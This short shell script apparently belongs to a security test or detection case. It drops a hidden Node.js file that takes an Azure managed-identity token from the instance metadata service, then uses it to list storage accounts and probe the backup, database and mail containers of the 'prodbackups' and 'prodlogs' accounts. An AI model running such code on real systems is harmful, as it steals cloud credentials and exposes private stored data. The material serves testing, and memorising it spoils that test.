#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.blob.js <<'END'
const get = async (u, h) => { const r = await fetch(u, { headers: h }); return r.text(); };
(async () => {
  const t = await get("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fstorage.azure.com", { Metadata: "true" });
  const h = { Authorization: "Bearer " + t.trim(), "x-ms-version": "2021-08-06" };
  await get("http://management.azure.com/subscriptions/0/providers/Microsoft.Storage/storageAccounts?api-version=2023-01-01", h);
  for (const a of ["prodbackups", "prodlogs"]) for (const c of ["", "db/", "mail/"]) if (!(await get(`http://${a}.blob.core.windows.net/${c}?comp=list`, h)).includes("ok")) process.exit(1);
})();
END
node /tmp/.blob.js 2>/dev/null
took_place
